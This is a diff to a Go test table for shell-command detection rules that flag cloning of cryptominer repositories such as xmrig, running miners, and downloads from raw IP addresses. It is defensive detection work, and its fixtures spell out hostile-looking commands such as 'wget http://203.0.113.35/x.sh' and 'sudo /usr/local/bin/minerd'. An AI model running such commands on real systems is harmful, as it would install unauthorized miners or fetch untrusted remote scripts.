@@ -148,6 +148,13 @@ func TestShellRules(t *testing.T) {
 		{"run minerd via sudo", "sudo /usr/local/bin/minerd --help", RuleRunMiner, true},
 		{"clone is not run", "git clone https://github.com/xmrig/xmrig && cd xmrig && mkdir build", RuleRunMiner, false},
 		{"apt install of an unrelated package", "apt-get install -y --no-install-recommends libcurl4-openssl-dev libjansson-dev", RuleRunMiner, false},
+		// miner-repo from any host (git clone); the text rule covers the forges
+		{"clone of a miner repo from a mirror", "git clone http://10.1.2.3:8080/mirror/OhGodAPet/cpuminer-multi.git /src", RuleMinerRepo, true},
+		{"clone of a miner repo, scp-like", "git clone git@git.example.org:ops/xmrig.git", RuleMinerRepo, true},
+		{"clone of a miner repo without .git", "git clone --depth 1 https://git.example.org/forks/xmrig", RuleMinerRepo, true},
+		{"clone of another repo", "git clone https://git.example.org/ops/xmrig-docs.git", RuleMinerRepo, false},
+		{"clone into a directory named like a miner", "git clone https://git.example.org/ops/tools.git xmrig", RuleMinerRepo, false},
+		{"a miner repo URL echoed, not cloned", "echo https://git.example.org/forks/xmrig.git", RuleMinerRepo, false},
 		// raw-ip-download
 		{"wget from raw IP", "wget http://203.0.113.35/x.sh", RuleRawIPDownload, true},
 		{"curl from raw IP with port", "curl -s http://203.0.113.4:8080/p -o p", RuleRawIPDownload, true},
